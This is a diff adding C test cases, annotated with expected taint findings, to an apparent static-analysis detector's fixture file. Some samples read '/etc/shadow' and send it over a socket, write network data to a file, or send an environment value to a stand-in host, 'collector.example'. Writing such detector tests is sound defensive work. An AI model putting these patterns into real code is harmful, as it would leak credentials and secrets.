@@ -424,3 +424,41 @@ void quiet_BIO_new_mem_buf_54(int s) {
     BIO_gets(bio, buf, sizeof buf);
     send(s, buf, 64, 0); //~ ok
 }
+
+void sent_BIO_new_file_90(int s) {
+    char buf[64];
+    BIO *file = BIO_new_file("/etc/shadow", "r"); //~ source(FILE) t90, capability(FILES)
+    BIO_read(file, buf, sizeof buf);
+    send(s, buf, 64, 0); //~ sink(egress.socket) t90, finding(traced) t90
+}
+
+void written_BIO_new_file_91(int s) {
+    char buf[64];
+    recv(s, buf, sizeof buf, 0); //~ source(NETWORK) t91
+    BIO *file = BIO_new_file("/tmp/a", "w");
+    BIO_write(file, buf, 64); //~ sink(file.write) t91, finding(download-to-file, traced) t91, capability(FILE_WRITE)
+}
+
+void kept_BIO_new_file_91(void) {
+    BIO *file = BIO_new_file("/tmp/a", "w"); //~ ok
+    BIO_write(file, getenv("A"), 4); //~ ok
+}
+
+void written_BIO_new_fp_92(int s) {
+    char buf[64];
+    recv(s, buf, sizeof buf, 0); //~ source(NETWORK) t92
+    BIO *file = BIO_new_fp(stdout, 0); //~ ok
+    BIO_write(file, buf, 64); //~ sink(file.write) t92, finding(download-to-file, traced) t92
+    BIO_write(file, getenv("A"), 4); //~ ok
+}
+
+// Where a handle may be either, nothing is known of it, and it may lead out.
+static void put_93(BIO *bio, const char *text) {
+    BIO_write(bio, text, 4); //~ sink(egress.socket) t93, finding(traced) t93
+}
+
+void either_BIO_new_connect_93(void) {
+    put_93(BIO_new(BIO_s_mem()), "ping"); //~ ok
+    put_93(BIO_new_connect("collector.example:1"), "ping"); //~ ok
+    put_93(BIO_new_connect("collector.example:1"), getenv("A")); //~ source(ENVIRONMENT) t93
+}
